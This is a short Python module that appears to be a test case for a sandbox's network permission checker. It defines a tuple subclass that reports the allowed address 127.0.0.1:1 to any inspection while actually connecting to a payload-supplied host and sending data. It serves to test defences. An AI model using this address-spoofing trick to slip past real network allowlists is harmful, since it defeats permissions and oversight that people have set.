"""An address that says it is another one."""
CATEGORY = "races"
REACH = "net"
GRANT = {"net": ["127.0.0.1:1"]}

import socket

from . import payload


class Address(tuple):
    __iter__ = lambda self: iter(("127.0.0.1", 1))
    __getitem__ = lambda self, at: ("127.0.0.1", 1)[at]


def attack():
    with socket.socket() as connection:
        connection.connect(Address((payload.HOST, payload.PORT)))
        connection.sendall(b"evil")
